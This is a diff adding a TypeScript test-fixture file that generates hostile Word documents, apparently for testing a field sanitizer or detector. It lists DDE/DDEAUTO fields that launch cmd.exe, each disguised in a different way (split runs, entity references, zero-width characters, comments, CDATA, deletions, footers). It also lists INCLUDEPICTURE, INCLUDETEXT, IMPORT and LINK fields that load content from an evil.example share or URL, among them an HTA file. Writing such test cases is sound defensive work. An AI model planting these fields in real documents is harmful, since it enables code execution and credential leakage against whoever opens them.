@@ -1,0 +1,65 @@
+import { field, simpleField } from './good-fields.ts'
+import type { HostileManuscript } from './hostile-manuscript.ts'
+import { documentXml, manuscript } from './plain-manuscript.ts'
+
+const inText = (name: string, inside: string, why = 'loads content'): HostileManuscript => ({
+	name,
+	make: () => manuscript([], {}, { document: documentXml(inside) }),
+	why,
+})
+const program = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
+const starts = 'starts a program'
+const deleted = (text: string) => field([text]).replaceAll('instrText', 'delInstrText')
+const share = '"\\\\\\\\evil.example\\\\s\\\\x.png"'
+
+/** Fields that start or load something when whoever opens the document updates them. */
+export const hostileFields: HostileManuscript[] = [
+	inText('DDEAUTO in a simple field', simpleField(`DDEAUTO ${program.replaceAll('"', '&quot;')}`), starts),
+	inText('DDEAUTO in references', simpleField('&#68;&#x44;EAUTO c:\\x'), starts),
+	inText('DDE in runs', field([' DD', 'E', ' ', program]), starts),
+	inText('DDE whose blank stands alone', field(['DDE', ' ', 'x']), starts),
+	inText('DDEAUTO letter by letter', field([...` dDeAuTo ${program}`]), starts),
+	inText('DDEAUTO around a comment', field(['DDE<!-- </w:instrText> -->AUTO<?x y?> a']), starts),
+	inText('DDEAUTO in CDATA', field(['<![CDATA[DDE]]>AUTO a']), starts),
+	inText('DDEAUTO with letters nobody sees', field(['D\u200bDE\u00adAUTO a']), starts),
+	inText('DDEAUTO behind a megabyte of blanks', field([' '.repeat(500_000), ' '.repeat(500_000), 'DDEAUTO a']), starts),
+	inText('DDEAUTO with another prefix', field(['DDEAUTO a']).replaceAll('w:', 'word:'), starts),
+	inText('DDEAUTO without a prefix', field(['DDEAUTO a']).replaceAll('w:', ''), starts),
+	inText('DDEAUTO outside a field', field(['DDEA', 'UTO a']).replace(/<w:r><w:fldChar[^>]*><\/w:r>/g, ''), starts),
+	inText('DDEAUTO that is never closed', field(['DDEAUTO a']).replace(/(separate|end)/g, 'begin'), starts),
+	inText('a deleted DDEAUTO', deleted('DDEAUTO a'), starts),
+	inText(
+		'a DDEAUTO hidden by a deletion',
+		field(['DDE</w:instrText><w:delInstrText>x</w:delInstrText><w:instrText>AUTO a']),
+		starts,
+	),
+	inText('DDEAUTO in the result of a field', field([' PAGE '], field(['DDEAUTO a'])), starts),
+	inText('an element in an instruction', field(['PA<w:fldSimple w:instr="DDE a"/>GE']), 'readers differ'),
+	{
+		name: 'DDEAUTO in a footer',
+		make: () => manuscript([{ name: 'word/footer1.xml', data: `<w:ftr xmlns:w="w">${field(['DDEAUTO a'])}</w:ftr>` }]),
+		why: starts,
+	},
+	inText('a picture field with a share', field([` INCLUDEPICTURE ${share} \\d`])),
+	inText(
+		'a picture field with a share in two runs',
+		field([' INCLUDEPICTURE "\\\\', '\\\\evil.example\\\\x.png" \\d']),
+	),
+	inText('a picture field without quotation marks', field([' INCLUDEPICTURE //evil.example/x.png'])),
+	inText('a text field with an address', field([' INCLUDETEXT "https://evil.example/x.docx" \\d'])),
+	inText('a picture field with file:', field([' INCLUDEPICTURE "file://evil.example/x.png" \\d'])),
+	inText('a picture field with a mounted share', field([' INCLUDEPICTURE "/Volumes/evil/x.png" \\d'])),
+	inText('a picture field with an address cut by a tab', field([' INCLUDETEXT "ht&#9;tp://evil.example/x.docx" \\d'])),
+	inText('a picture field without end', field([' INCLUDEPICTURE "', 'a'.repeat(20_000)])),
+	inText(
+		'a picture field worked out by another',
+		field([' INCLUDEPICTURE ', `</w:instrText>${field([' REF a '])}<w:instrText>`]),
+	),
+	inText('a text field with an address', field([' INCLUDETEXT "http://evil.example/x.docx" '])),
+	inText('an old picture field', field([' IMPORT \\\\evil.example\\x.png '])),
+	inText('a linked object field', field([` LINK Excel.Sheet.12 ${share} a \\a`])),
+	inText(
+		'a linked object field that runs what it loads',
+		simpleField('LINK htafile &quot;http://evil.example/x.hta&quot; \\a'),
+	),
+]
